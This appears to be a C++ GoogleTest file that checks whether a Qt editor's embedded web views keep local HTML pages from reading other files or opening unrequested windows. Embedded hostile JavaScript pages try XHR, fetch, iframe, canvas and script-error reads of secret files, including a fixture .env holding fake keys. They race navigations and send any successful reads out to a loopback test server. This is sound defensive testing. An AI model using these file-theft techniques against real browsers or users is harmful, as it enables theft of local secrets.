// A hostile page in every web view that shows pages from the disk (the preview, its refresh on
// typing, the Help window): it reads no other file, what it is made of still loads, and nothing
// reaches the desktop but a web or mail address the user clicked, once per click. Closed, the
// window's page stops.
#include "platform/AppBundle.h"
#include "platform/TextEncoding.h"
#include "platform/UserDefaults.h"
#include "editor/QVFileDocument.h"
#include "platform/NotificationCenter.h"
#include "platform/web/QVWebView.h"
#include "shell/web/QVHelpWindowController.h"
#include "shell/web/QVInfoWindowController.h"
#include "tests/support/TestSupport.h"
#include "tests/web/WebTestSupport.h"
#include "tools/web/QVIntegratedPreviewController.h"

#include <QJsonArray>
#include <QJsonDocument>
#include <QJsonObject>
#include <QLibrary>
#include <QDir>
#include <QElapsedTimer>
#include <QEventLoop>
#include <QSaveFile>
#include <QImage>
#include <QMainWindow>
#include <QProcess>
#include <QRandomGenerator>
#include <QRegularExpression>
#include <QSignalSpy>
#include <QStatusBar>
#include <QTcpServer>
#include <QTcpSocket>
#include <QTemporaryDir>
#include <QTest>
#include <QUrlQuery>

#include <algorithm>
#include <cctype>
#include <functional>

#include <sys/inotify.h>
#include <sys/stat.h>

#include <unistd.h>

#include <gtest/gtest.h>

namespace {

const bool unsandboxed = [] {
    // The engine's sandbox will not start as root; as anyone else the pages run inside it.
    if (::geteuid() == 0) qputenv("QTWEBENGINE_DISABLE_SANDBOX", "1");
    return true;
}();

// The page: every read it tries and every part it is made of, reported in its title; windows
// and addresses it opens at load by every route; five links to click, one per 60 pixels; and,
// once loaded, a request to the site every 100 ms while it runs.
QByteArray hostilePage(const QString& site, const QString& secret) {
    QByteArray page = R"(<!DOCTYPE html><html><head><title>loading</title>
<link rel="stylesheet" href="own.css"><link rel="stylesheet" href="@SITE@/cdn.css">
<script src="own.js"></script><script src="@SITE@/cdn.js"></script></head>
<body style="margin:0">
<a href="@SITE@/clicked" target="_blank" style="display:block;height:60px">blank</a>
<a href="#" onclick="for (var i = 0; i < 3; ++i) window.open('@SITE@/many' + i); return false;" style="display:block;height:60px">many</a>
<a href="qvdt://open?file=@FILE@&range=0,5" style="display:block;height:60px">qvdt</a>
<a href="file://@FILE@" target="_blank" style="display:block;height:60px">file</a>
<a href="mailto:someone@example.com" style="display:block;height:60px">mail</a>
<img id="own" src="own.png"><img id="remote" src="@SITE@/cdn.png">
<iframe id="frame" src="../secret.txt"></iframe><iframe src="frame.html"></iframe><object id="object" data="secret2.txt"></object>
<script>
var leaked = [], loaded = [], pending = 2;
function note(route, text) { if (String(text).indexOf('QVSECRET') >= 0) leaked.push(route); }
function sync(route, address) {
  try { var x = new XMLHttpRequest(); x.open('GET', address, false); x.send(); note(route, x.responseText); } catch (e) {}
}
sync('xhr sibling', 'secret2.txt'); sync('xhr parent', '../secret.txt'); sync('xhr file', 'file://@FILE@');
['file://@FILE@', '../secret.txt'].forEach(function (address) {
  fetch(address).then(function (r) { return r.text(); }).then(function (t) { note('fetch ' + address, t); })
    .catch(function () {}).finally(function () { --pending; });
});
window.addEventListener('message', function (e) { if (e.data === 'frame') loaded.push('own frame'); });
function openAll() {
  window.open('@SITE@/open'); window.open('qvdt://open?file=@FILE@'); window.open('file://@FILE@');
  var a = document.createElement('a'); a.href = '@SITE@/scripted'; a.target = '_blank'; document.body.appendChild(a); a.click();
  var m = document.createElement('a'); m.href = 'mailto:scripted@example.com'; document.body.appendChild(m); m.click();
  setTimeout(function () { location = 'qvdt://open?file=@FILE@'; }, 0);
}
window.open('@SITE@/early');
window.onload = function () {
  setInterval(function () { new Image().src = '@SITE@/tick?' + Date.now(); }, 100);
  ['frame', 'object'].forEach(function (id) {
    try { note(id, document.getElementById(id).contentDocument.body.textContent); } catch (e) {}
  });
  if (getComputedStyle(document.body).color === 'rgb(1, 2, 3)') loaded.push('own stylesheet');
  if (window.ownScript) loaded.push('own script');
  if (document.getElementById('own').naturalWidth === 1) loaded.push('own image');
  if (getComputedStyle(document.body).backgroundColor === 'rgb(4, 5, 6)') loaded.push('site stylesheet');
  if (window.cdnScript) loaded.push('site script');
  if (document.getElementById('remote').naturalWidth === 1) loaded.push('site image');
  (function report() {
    if (pending > 0 || loaded.indexOf('own frame') < 0) return setTimeout(report, 50);
    document.title = 'done ' + JSON.stringify({leaked: leaked, loaded: loaded.sort()});
    openAll();  // a link followed by script stops what is still loading: last
  })();
};
</script></body></html>)";
    return page.replace("@SITE@", site.toUtf8()).replace("@FILE@", secret.toUtf8());
}

// The peer a page from the disk is held to: what Chromium, headless, shows as the title of
// address once the page's scripts ran (empty when it could not run).
QString chromiumTitle(const QString& address, int budget = 5000) {
    QTemporaryDir profile;
    QProcess chromium;
    chromium.start(QStringLiteral("chromium"),
                   {"--headless", "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
                    "--disable-component-update", "--disable-sync", "--user-data-dir=" + profile.path(), "--virtual-time-budget=" + QString::number(budget),
                    "--dump-dom", address});
    // The event loop turns while it runs: the test's site answers it.
    if (!QTest::qWaitFor([&] { return chromium.state() == QProcess::NotRunning; }, 120000)) chromium.kill();
    chromium.waitForFinished();
    const QString dom = QString::fromUtf8(chromium.readAllStandardOutput());
    const qsizetype start = dom.indexOf(QLatin1String("<title>")), end = dom.indexOf(QLatin1String("</title>"));
    if (start < 0 || end < start) return {};
    return dom.mid(start + 7, end - start - 7)
        .replace(QLatin1String("&lt;"), QLatin1String("<"))
        .replace(QLatin1String("&gt;"), QLatin1String(">"))
        .replace(QLatin1String("&amp;"), QLatin1String("&"));
}

// The ports this process listens on at 127.0.0.1 (its sockets in /proc).
QList<quint16> loopbackPortsListening() {
    QSet<QString> sockets;
    for (const QFileInfo& fd : QDir(QStringLiteral("/proc/self/fd")).entryInfoList(QDir::System | QDir::NoDotAndDotDot))
        if (const QString target = fd.symLinkTarget(); target.contains(QLatin1String("socket:["))) sockets.insert(target.section('[', 1).chopped(1));
    QList<quint16> ports;
    QFile table(QStringLiteral("/proc/self/net/tcp"));
    if (!table.open(QIODevice::ReadOnly)) return ports;
    for (const QByteArray& line : table.readAll().split('\n')) {
        const QList<QByteArray> fields = line.simplified().split(' ');
        // local address, state LISTEN, inode
        if (fields.size() > 9 && fields[1].startsWith("0100007F:") && fields[3] == "0A" && sockets.contains(QString::fromLatin1(fields[9])))
            ports.append(quint16(fields[1].mid(9).toUInt(nullptr, 16)));
    }
    return ports;
}

// The status line a plain request to port gets (the event loop turns: the server is of this
// process).
QByteArray answerTo(quint16 port, const QByteArray& request) {
    QTcpSocket socket;
    QByteArray answer;
    QObject::connect(&socket, &QTcpSocket::readyRead, [&] { answer += socket.readAll(); });
    socket.connectToHost(QHostAddress::LocalHost, port);
    socket.write(request);
    if (!QTest::qWaitFor([&] { return answer.contains("\r\n") || socket.state() == QAbstractSocket::UnconnectedState; }, 10000))
        return "no answer";
    return answer.left(answer.indexOf("\r\n"));
}

// What a page reads of other files by what they are made of, each under its own key: a script's
// error text (the file named by a relative address, and by the absolute address of the page's own
// scheme), a stylesheet's rules, and the pixels of each kind of image drawn into a canvas. One at
// a time, then "done " and the answers as the title.
const QByteArray readsPage = R"(<!DOCTYPE html><html><head><title>loading</title></head><body><script>
var answers = {}, lastError = null;
window.onerror = function (message, source, line) { lastError = message + ' line ' + line; return true; };
var steps = [
  function (next) { script('error text', '../other/.env', next); },
  function (next) { script('error text, absolute address', new URL('../other/config.yml', location.href).href, next); },
  function (next) {
    var link = document.createElement('link');
    link.rel = 'stylesheet'; link.href = '../other/style.css';
    link.onerror = function () { answers['stylesheet rules'] = 'not loaded'; next(); };
    link.onload = function () {
      try { answers['stylesheet rules'] = 'rules ' + link.sheet.cssRules.length; } catch (e) { answers['stylesheet rules'] = e.name; }
      next();
    };
    document.head.appendChild(link);
  }
];
steps.push(function (next) {
  var font = new FontFace('Other', 'url(../other/font.ttf)');
  font.load().then(function () { answers['font'] = 'loaded'; }, function (e) { answers['font'] = e.name; }).finally(next);
});
steps.push(function (next) {
  document.fonts.load('16px Sheet').then(function (fonts) {
    answers['font of a stylesheet'] = fonts.length && document.fonts.check('16px Sheet') ? 'loaded' : 'not loaded';
  }, function (e) { answers['font of a stylesheet'] = e.name; }).finally(next);
});
['png', 'jpg', 'gif', 'ico', 'svg'].forEach(function (kind) {
  steps.push(function (next) {
    var image = new Image(), key = 'canvas ' + kind;
    image.onerror = function () { answers[key] = 'not loaded'; next(); };
    image.onload = function () {
      var canvas = document.createElement('canvas'), context = canvas.getContext('2d');
      canvas.width = canvas.height = 2;
      context.drawImage(image, 0, 0);
      try { answers[key] = 'pixel ' + Array.from(context.getImageData(0, 0, 1, 1).data).join(','); } catch (e) { answers[key] = e.name; }
      next();
    };
    image.src = '../other/image.' + kind;
  });
});
function script(key, address, next) {
  lastError = null;
  var element = document.createElement('script');
  element.src = address;
  element.onload = function () { answers[key] = 'error ' + lastError; next(); };
  element.onerror = function () { answers[key] = 'not loaded'; next(); };
  document.head.appendChild(element);
}
(function run() {
  if (!steps.length) return document.title = 'done ' + JSON.stringify(answers);
  steps.shift()(function () { setTimeout(run, 0); });
})();
</script></body></html>)";

}  // namespace

TEST(PageTrust, AHostilePageReadsNoOtherFileAndOpensOnlyWhatTheUserClicks) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    LoopbackSite site;
    DesktopSeam desktop;
    TestDir dir;
    const QString secret = dir.write("secret.txt", "QVSECRET of the parent folder");
    dir.write("site/secret2.txt", "QVSECRET beside the page");
    dir.write("site/own.css", "body { color: rgb(1, 2, 3); }");
    dir.write("site/own.js", "window.ownScript = true;");
    dir.write("site/own.png", pixel);
    dir.write("site/frame.html", "<html><body>frame<script>parent.postMessage('frame', '*');</script></body></html>");
    const QByteArray text = hostilePage(site.address(), secret);
    const QString pagePath = dir.write("site/page.html", text);
    const QUrl page = QUrl::fromLocalFile(pagePath);

    QVIntegratedPreviewController::install();
    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    UserDefaults::standard().setInteger(1, QVIntegratedPreviewController::RefreshModeKey);
    struct Case {
        const char* name;
        QMainWindow* window;
        QVWebView* view;
        std::function<void()> show;
        QUrl shown;  // the address the view ends on
    };
    const QList<Case> cases = {
        {"preview", &preview, preview.webView(), [&] { preview.showURL(page.toString()); }, page},
        {"refresh on typing", &preview, preview.webView(),
         [&] {
             preview.showURL(page.toString());
             ASSERT_TRUE(QTest::qWaitFor([&] { return preview.webView()->loadProgress() == 100; }, 20000));
             ASSERT_TRUE(preview.previewAsTemporaryFile(pagePath, QString::fromUtf8(text), TextEncoding::UTF8));
         },
         QUrl::fromLocalFile(dir.file("site/.tmp_Qorvel.html"))},
        {"help", &help, help.webView(), [&] { help.showPage(page); }, page},
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        desktop.opened.clear();
        c.window->resize(700, 600);
        QSignalSpy titles(c.view, &QVWebView::titleChanged);
        QSignalSpy refused(c.view, &QVWebView::refused);
        c.show();
        QString report;
        ASSERT_TRUE(QTest::qWaitFor(
            [&] {
                const QString last = titles.isEmpty() ? QString() : titles.last().first().toString();
                report = last.startsWith(QLatin1String("done ")) ? last.mid(5) : QString();
                return !report.isEmpty() && c.view->url() == c.shown && c.view->loadProgress() == 100;
            },
            30000))
            << c.view->url().toString().toStdString() << " " << (titles.isEmpty() ? "" : titles.last().first().toString().toStdString()) << " " << c.view->loadProgress() << " " << site.paths.join(" ").toStdString();
        const QJsonObject result = QJsonDocument::fromJson(report.toUtf8()).object();
        EXPECT_EQ(result.value("leaked").toArray(), QJsonArray()) << report.toStdString();
        EXPECT_EQ(result.value("loaded").toArray(), QJsonArray({"own frame", "own image", "own script", "own stylesheet", "site image",
                                                                "site script", "site stylesheet"}))
            << report.toStdString();
        // Windows opened, links clicked and addresses gone to by script at load: none left.
        QTest::qWait(500);
        EXPECT_EQ(desktop.opened, QStringList());
        EXPECT_FALSE(refused.isEmpty());

        // The user's clicks: a link with a target, one that opens three windows, Qorvel's own
        // scheme, a file with a target, and mail.
        QWidget* target = webEngineViewIn(c.view)->focusProxy();
        struct Click {
            int y;
            QStringList opened;
            int refusals;  // and what the first says
            const char* refusedWord;
        };
        const QList<Click> clicks = {
            {30, {site.address() + "/clicked"}, 0, nullptr},
            {90, {site.address() + "/many0"}, 2, "/many1 "},
            {150, {}, 1, "qvdt://open"},
            {210, {}, 0, nullptr},  // the engine itself opens no file for a page of no site
            {270, {"mailto:someone@example.com"}, 0, nullptr},
        };
        for (const Click& click : clicks) {
            SCOPED_TRACE(click.y);
            desktop.opened.clear();
            refused.clear();
            QTest::mouseMove(target, QPoint(20, click.y));
            QTest::mouseClick(target, Qt::LeftButton, {}, QPoint(20, click.y));
            EXPECT_TRUE(
                QTest::qWaitFor([&] { return desktop.opened.size() >= click.opened.size() && refused.size() >= click.refusals; }, 10000));
            QTest::qWait(300);
            EXPECT_EQ(desktop.opened, click.opened);
            ASSERT_EQ(refused.size(), click.refusals);
            if (!click.refusedWord) continue;
            const QString word = refused.first().first().toString();
            EXPECT_TRUE(word.contains(QLatin1String(click.refusedWord))) << word.toStdString();
            if (c.window == &preview) {
                EXPECT_EQ(preview.status(), refused.last().first().toString());
            }
        }
        if (c.window == &help) {
            EXPECT_TRUE(help.statusBar()->currentMessage().contains(QLatin1String("qvdt://")));
        }
        EXPECT_EQ(c.view->url(), c.shown);

        // Closed, the window's page stops asking the site for anything.
        const auto ticks = [&] {
            return std::count_if(site.paths.begin(), site.paths.end(), [](const QString& path) { return path.startsWith(QLatin1String("/tick?")); });
        };
        EXPECT_GT(ticks(), 0);
        c.window->close();
        QTest::qWait(200);
        const auto ticksAtClose = ticks();
        QTest::qWait(800);
        EXPECT_EQ(ticks(), ticksAtClose);
    }
    EXPECT_FALSE(QFile::exists(dir.file("site/.tmp_Qorvel.html")));

    // A web page gets nothing from the disk through the scheme pages from the disk are served in.
    site.page = "<html><head><title>loading</title></head><body><img src='qvfile://local" + dir.file("site/own.png").toUtf8() +
                "' onload=\"document.title = 'read'\" onerror=\"document.title = 'refused'\"></body></html>";
    QSignalSpy titles(preview.webView(), &QVWebView::titleChanged);
    preview.showURL(site.address() + "/page.html");
    EXPECT_TRUE(QTest::qWaitFor([&] { return !titles.isEmpty() && QStringList{"read", "refused"}.contains(titles.last().first().toString()); }, 20000));
    EXPECT_EQ(titles.value(titles.size() - 1).value(0).toString(), "refused");
    preview.close();
    UserDefaults::standard().removeObject(QVIntegratedPreviewController::RefreshModeKey);
}


// A page from the disk in every view that shows one (the preview, the Help window, the Welcome
// window) reads of other files no more than Chromium lets the same page read as a file: page, and
// a web page takes no view to a page from the disk, as Chromium keeps one from file: addresses.
TEST(PageTrust, APageFromTheDiskReadsOfOtherFilesWhatChromiumLetsAFilePageRead) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    LoopbackSite site;
    TestDir dir;
    dir.write("other/.env", "PAYMENT_KEY=QVSECRET_sk_live_4eC39\nDB_PASSWORD=QVSECRET_hunter2\n");
    dir.write("other/config.yml", "password: QVSECRET_yaml\n");
    dir.write("other/style.css", ".secret::after { content: 'QVSECRET'; }\n@font-face { font-family: Sheet; src: url(font.ttf); }\n");
    QImage red(2, 2, QImage::Format_ARGB32);
    red.fill(Qt::red);
    for (const char* format : {"png", "jpg", "ico"}) ASSERT_TRUE(red.save(dir.file(QStringLiteral("other/image.") + format), format));
    dir.write("other/image.gif", QByteArray::fromBase64("R0lGODlhAQABAIAAAP8AAAAAACwAAAAAAQABAAACAkQBADs="));
    QFile font(QStringLiteral("/usr/share/fonts/truetype/dejavu/DejaVuSans.ttf"));
    ASSERT_TRUE(font.open(QIODevice::ReadOnly)) << "fonts-dejavu-core is missing";
    dir.write("other/font.ttf", font.readAll());
    dir.write("other/image.svg", R"(<svg xmlns="http://www.w3.org/2000/svg" width="2" height="2"><rect width="2" height="2" fill="red"/></svg>)");
    const QString readsPath = dir.write("site/reads.html", readsPage);
    const QString landingPath = dir.write("site/landing.html", "<html><head><title>landed</title></head><body><img src='" +
                                                                   site.address().toUtf8() + "/landed'></body></html>");
    // A web page that sends its view to a page from the disk as soon as it has loaded.
    const auto sendingPage = [](const QString& address) {
        return "<html><head><title>web page</title></head><body><script>window.onload = function () { location = '" + address.toUtf8() +
               "'; setTimeout(function () { document.title = 'stayed'; }, 300); };</script></body></html>";
    };

    const QString peerReads = chromiumTitle(QUrl::fromLocalFile(readsPath).toString());
    ASSERT_TRUE(peerReads.startsWith(QLatin1String("done "))) << "chromium answered: " << peerReads.toStdString();
    const QJsonObject peer = QJsonDocument::fromJson(peerReads.mid(5).toUtf8()).object();
    site.page = sendingPage(QUrl::fromLocalFile(landingPath).toString());
    const QString peerSent = chromiumTitle(site.address() + "/page.html");
    const bool peerLanded = site.paths.contains(QStringLiteral("/landed"));

    // Each thing the page reads, and whether the peer keeps it from the page (else it loads).
    struct Row {
        QString key;
        bool closed;
    };
    const QList<Row> rows{{"error text", true}, {"error text, absolute address", true}, {"stylesheet rules", true}, {"canvas png", true},
                          {"canvas jpg", true}, {"canvas gif", true},                   {"canvas ico", true},       {"canvas svg", true},
                          {"font", false},      {"font of a stylesheet", false}};
    for (const Row& row : rows) {
        const QString answer = peer.value(row.key).toString();
        if (!row.closed) {
            EXPECT_EQ(answer, "loaded") << row.key.toStdString();
            continue;
        }
        // The peer loads the file and keeps what it is made of from the page.
        EXPECT_FALSE(answer.isEmpty() || answer.contains(QLatin1String("QVSECRET")) || answer.startsWith(QLatin1String("pixel")) ||
                     answer.startsWith(QLatin1String("rules")) || answer == QLatin1String("not loaded"))
            << row.key.toStdString() << ": " << answer.toStdString();
    }
    EXPECT_EQ(peerSent, "stayed");
    EXPECT_FALSE(peerLanded);

    QVIntegratedPreviewController::install();
    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    QVInfoWindowController& welcome = QVInfoWindowController::sharedInstance();
    struct Case {
        const char* name;
        QMainWindow* window;
        QVWebView* view;
        std::function<void(const QUrl&)> show;
    };
    const QList<Case> cases = {
        {"preview", &preview, preview.webView(), [&](const QUrl& page) { preview.showURL(page.toString()); }},
        {"help", &help, help.webView(), [&](const QUrl& page) { help.showPage(page); }},
        {"welcome", &welcome, welcome.infoWebView(),
         [&](const QUrl& page) {
             welcome.show();
             welcome.infoWebView()->load(page);
         }},
    };
    const auto finalTitle = [](QSignalSpy& titles, const QStringList& ends) {
        QString last;
        const bool ended = QTest::qWaitFor(
            [&] {
                last = titles.isEmpty() ? QString() : titles.last().first().toString();
                return std::any_of(ends.begin(), ends.end(), [&](const QString& end) { return last.startsWith(end); });
            },
            30000);
        return ended ? last : "still " + last;
    };
    for (const Case& c : cases) {
        SCOPED_TRACE(c.name);
        QSignalSpy titles(c.view, &QVWebView::titleChanged);
        c.show(QUrl::fromLocalFile(readsPath));
        const QString reads = finalTitle(titles, {"done "});
        const QJsonObject ours = QJsonDocument::fromJson(reads.mid(5).toUtf8()).object();
        for (const Row& row : rows) EXPECT_EQ(ours.value(row.key).toString(), peer.value(row.key).toString()) << row.key.toStdString();

        site.paths.clear();
        site.page = sendingPage("qvfile://local" + QUrl::fromLocalFile(landingPath).path(QUrl::FullyEncoded));
        QSignalSpy refused(c.view, &QVWebView::refused);
        titles.clear();
        c.show(QUrl(site.address() + "/page.html"));
        EXPECT_EQ(finalTitle(titles, {"stayed", "landed"}), peerSent);
        QTest::qWait(300);
        EXPECT_EQ(site.paths.contains(QStringLiteral("/landed")), peerLanded);
        EXPECT_EQ(c.view->url().toString(), site.address() + "/page.html");
        EXPECT_TRUE(!refused.isEmpty() && refused.last().first().toString().contains(QLatin1String("landing.html")));
        c.window->close();
    }
    // The Welcome window's own page again, for the suites that look at it.
    welcome.infoWebView()->load(QUrl::fromLocalFile(AppBundle::main().pathForResource(QStringLiteral("info"), QStringLiteral("html"))));
}

// What serves a page from the disk its files answers no one who does not hold the capability of
// its address: not another program of this machine, nor a page that names the server.
TEST(PageTrust, TheFilesOfAPageFromTheDiskGoOnlyToItsView) {
    if (QVWebView::engine() != QVWebView::Engine::WebEngine) GTEST_SKIP() << QVWebView::fallbackReason().toStdString();
    TestDir dir;
    const QString secret = dir.write("secret.txt", "QVSECRET");
    // The first view made starts the server; nothing else of the suite listens outside a test.
    QVHelpWindowController::sharedInstance().showPage(QUrl::fromLocalFile(secret));
    const QList<quint16> servers = loopbackPortsListening();
    ASSERT_FALSE(servers.isEmpty());
    const QByteArray path = QUrl::toPercentEncoding(secret, "/");
    struct Row {
        const char* name;
        QByteArray target;
    };
    const QList<Row> rows{
        {"the path alone", path},
        {"a wrong capability", "/00112233445566778899aabbccddeeff" + path},
        {"the scheme's name for a host", "/local" + path},
        {"a path of one step", "/etc"},
    };
    for (const quint16 port : servers)
        for (const Row& row : rows)
            EXPECT_EQ(answerTo(port, "GET " + row.target + " HTTP/1.1\r\nHost: 127.0.0.1\r\nQorvel-Page-Key: 00\r\n\r\n"), "HTTP/1.1 403 Forbidden")
                << row.name << " on port " << port;

    // An image named by its address there gets nothing, from a web page or from a page from the
    // disk (as Chromium gives nothing to either on file:); the page's own name for it shows.
    ASSERT_EQ(servers.size(), 1);
    LoopbackSite site;
    const QString image = dir.write("image.png", pixel);
    const auto probe = [](const QByteArray& address) {
        return "<html><head><title>loading</title></head><body><img src='" + address +
               "' onload=\"document.title = 'shown'\" onerror=\"document.title = 'refused'\"></body></html>";
    };
    site.page = probe("http://127.0.0.1:" + QByteArray::number(servers.first()) + QUrl::toPercentEncoding(image, "/"));
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    struct Page {
        const char* name;
        QUrl address;
        QString title;
    };
    for (const Page& page : QList<Page>{{"a web page", QUrl(site.address() + "/page.html"), "refused"},
                                        {"a page from the disk, by the server's address", QUrl::fromLocalFile(dir.write("server.html", site.page)), "refused"},
                                        {"a page from the disk, by its own name", QUrl::fromLocalFile(dir.write("own.html", probe("image.png"))), "shown"}}) {
        QSignalSpy titles(help.webView(), &QVWebView::titleChanged);
        help.showPage(page.address);
        EXPECT_TRUE(QTest::qWaitFor(
            [&] { return !titles.isEmpty() && QStringList{"shown", "refused"}.contains(titles.last().first().toString()); }, 20000));
        EXPECT_EQ(titles.value(titles.size() - 1).value(0).toString(), page.title) << page.name;
    }
    help.close();
}


namespace {

// The page file server's port: the one this process listens on that is no test site's.
quint16 pageFileServerPort(const QList<quint16>& others) {
    for (const quint16 port : loopbackPortsListening())
        if (!others.contains(port)) return port;
    return 0;
}

// The longest the event loop went without turning while waiting ms.
qint64 longestStall(int ms) {
    QElapsedTimer total, step;
    total.start();
    qint64 longest = 0;
    while (total.elapsed() < ms) {
        step.start();
        QTest::qWait(5);
        longest = std::max(longest, step.elapsed());
    }
    return longest;
}

// What a page's title settles on, or "still <title>".
QString settledTitle(QSignalSpy& titles, const QStringList& ends, int ms = 30000) {
    QString last;
    const bool ended = QTest::qWaitFor(
        [&] {
            last = titles.isEmpty() ? QString() : titles.last().first().toString();
            return std::any_of(ends.begin(), ends.end(), [&](const QString& end) { return last.startsWith(end); });
        },
        ms);
    return ended ? last : "still " + last;
}

// A web page in a view that loads a page from the disk keeps trying to run
// another project's file from the page file server (and to show its image) while the new page
// comes: by every way a view comes to load a page from the disk, it never gets one. Nor does a
// web frame inside a page from the disk, which Chromium gives nothing either. One trigger a test,
// so that each stays within a test's time on a loaded machine; the web frame goes with the last.
void raceTheLoadOfADiskPage(QLatin1String only, bool frames) {
    LoopbackSite site;
    TestDir dir;
    const QString config = dir.write("other/config.js", "window.stolen = 'QVSECRET';");
    const QString image = dir.write("other/image.png", pixel);
    const QString diskPath = dir.write("site/index.html", "<html><head><title>disk page</title></head><body>disk</body></html>");
    const QUrl diskPage = QUrl::fromLocalFile(diskPath);
    QVIntegratedPreviewController::install();
    QVIntegratedPreviewController& preview = QVIntegratedPreviewController::sharedPreview();
    QVHelpWindowController& help = QVHelpWindowController::sharedInstance();
    const quint16 port = pageFileServerPort({site.port()});
    ASSERT_NE(port, 0);
    const QByteArray served = "http://127.0.0.1:" + QByteArray::number(port);
    const QByteArray configPath = QUrl::toPercentEncoding(config, "/"), imagePath = QUrl::toPercentEncoding(image, "/");
    // Every read that worked is a request for /read... at the site.
    const QByteArray attempts = "function attempt() {\n"
                                "  var s = document.createElement('script'); s.src = '" + served + configPath + "?' + Math.random();\n"
                                "  s.onload = function () { new Image().src = '" + site.address().toUtf8() + "/read-script'; s.remove(); };\n"
                                "  s.onerror = function () { s.remove(); }; document.head.appendChild(s);\n"
                                "  var i = new Image(); i.onload = function () { new Image().src = '" + site.address().toUtf8() + "/read-image'; };\n"
                                "  i.src = (Math.random() < 0.5 ? '" + served + imagePath + "' : 'qvfile://local" + imagePath + "') + '?' + Math.random();\n"
                                "}\n";
    // Its frame of no site (a sandboxed one) asks with no initiator, as a page from the disk
    // does, and keeps trying all the while.
    const QByteArray framed = "var code = '<script>' + attempt.toString() + 'new Image().src = \\'" + site.address().toUtf8() +
                              "/frame-alive-\\' + location.protocol;' +\n"
                              "  'window.onbeforeunload = function () { for (var n = 0; n < 20; ++n) attempt(); };<\\/script>';\n"
                              "var b = document.createElement('iframe'); b.sandbox = 'allow-scripts'; b.srcdoc = code;\n"
                              "if (location.search !== '?away') document.body.appendChild(b);\n";
    const QByteArray attacker = "<html><head><title>web page</title></head><body><script>" + attempts + framed +
                                "window.onload = function () {\n"
                                "  new Image().src = '/attacking';\n"
                                "  window.onbeforeunload = function () { for (var n = 0; n < 20; ++n) attempt(); };\n"
                                "  if (location.search === '?away') setTimeout(function () { location = 'http://127.0.0.1:@CLOSED@/'; }, 30);\n"
                                "};\n"
                                "</script></body></html>";
    // A port nothing listens on (one Chromium does not refuse outright).
    QTcpServer closed;
    closed.listen(QHostAddress::LocalHost);
    const QByteArray closedPort = QByteArray::number(closed.serverPort());
    closed.close();
    site.page = QByteArray(attacker).replace("@CLOSED@", closedPort);
    site.pages.insert("/page.html?away", site.page);
    const QString web = site.address() + "/page.html";
    const auto reads = [&] {
        return std::count_if(site.paths.begin(), site.paths.end(), [](const QString& path) { return path.startsWith(QLatin1String("/read")); });
    };
    const auto attacking = [&] { return site.paths.contains(QStringLiteral("/attacking")); };

    struct Trigger {
        const char* name;
        QVWebView* view;
        std::function<void()> before;  // once
        std::function<void()> web;     // the web page shows
        std::function<void()> disk;    // the view is taken to a page from the disk
    };
    const QList<Trigger> triggers = {
        {"preview (Ctrl+=)", preview.webView(), [] {}, [&] { preview.showURL(web); }, [&] { preview.showURL(diskPage.toString()); }},
        {"refresh on save", preview.webView(),
         [&] {
             UserDefaults::standard().setInteger(0, QVIntegratedPreviewController::RefreshModeKey);
             preview.showURL(diskPage.toString());
         },
         [&] { preview.webView()->load(QUrl(web)); },
         [&] { NotificationCenter::defaultCenter().post(QVFileDocument::FileDidSaveNotification); }},
        {"refresh on keystroke", preview.webView(),
         [&] {
             UserDefaults::standard().setInteger(1, QVIntegratedPreviewController::RefreshModeKey);
             preview.showURL(diskPage.toString());
         },
         [&] { preview.webView()->load(QUrl(web)); },
         [&] { ASSERT_TRUE(preview.previewAsTemporaryFile(diskPath, QStringLiteral("<title>typed</title>"), TextEncoding::UTF8)); }},
        {"error page", preview.webView(), [] {}, [&] { preview.showURL(web + "?away"); }, [] {}},
        {"help (F1)", help.webView(), [] {}, [&] { help.showPage(QUrl(web)); }, [&] { help.showPage(diskPage); }},
    };
    constexpr int tries = 5;
    for (const Trigger& trigger : triggers) {
        if (QLatin1String(trigger.name) != only) continue;
        SCOPED_TRACE(trigger.name);
        trigger.before();
        ASSERT_TRUE(QTest::qWaitFor([&] { return trigger.view->loadProgress() == 100; }, 20000));
        site.paths.clear();
        int raced = 0;
        for (int i = 0; i < tries; ++i) {
            site.paths.removeAll(QStringLiteral("/attacking"));
            trigger.web();
            ASSERT_TRUE(QTest::qWaitFor([&] { return attacking() && trigger.view->loadProgress() == 100; }, 20000))
                << i << " " << trigger.view->loadProgress() << " " << site.paths.mid(0, 8).join(' ').toStdString();
            QTest::qWait(i % 7);
            trigger.disk();
            ASSERT_TRUE(QTest::qWaitFor(
                [&] { return !trigger.view->url().toString().startsWith(site.address()) && trigger.view->loadProgress() == 100; }, 20000))
                << i << " " << trigger.view->url().toString().toStdString();
            raced += 1;
        }
        QTest::qWait(100);
        // The page that leaves by itself goes without the frame, which holds its leaving up.
        if (QLatin1String(trigger.name) != QLatin1String("error page")) {
            EXPECT_TRUE(site.paths.contains(QStringLiteral("/frame-alive-about:")));
        }
        EXPECT_EQ(reads(), 0) << site.paths.filter(QStringLiteral("/read")).join(' ').toStdString() << " in " << raced << " tries";
    }
    preview.close();
    help.close();
    UserDefaults::standard().removeObject(QVIntegratedPreviewController::RefreshModeKey);
    if (!frames) return;

    // A web frame inside a page from the disk names the page's own files by every address.
    site.pages.insert("/framed.html", "<html><body><script>" + attempts +
                                          "for (var n = 0; n < 20; ++n) attempt();\n"
                                          "['file://" + configPath + "', 'qvfile://local" + configPath + "'].forEach(function (a) {\n"
                                          "  var s = document.createElement('script'); s.src = a;\n"
                                          "  s.onload = function () { new Image().src = '/read-' + a; }; document.head.appendChild(s); });\n"
                                          "setTimeout(function () { new Image().src = '/framed-done'; }, 1000);\n"
                                          "</script></body></html>");
    const QUrl framing = QUrl::fromLocalFile(dir.write("other/framing.html", "<html><head><title>framing</title></head><body><iframe src='" +
                                                                                 site.address().toUtf8() + "/framed.html'></iframe></body></html>"));
    const auto framedDone = [&] { return site.paths.contains(QStringLiteral("/framed-done")); };
    site.paths.clear();
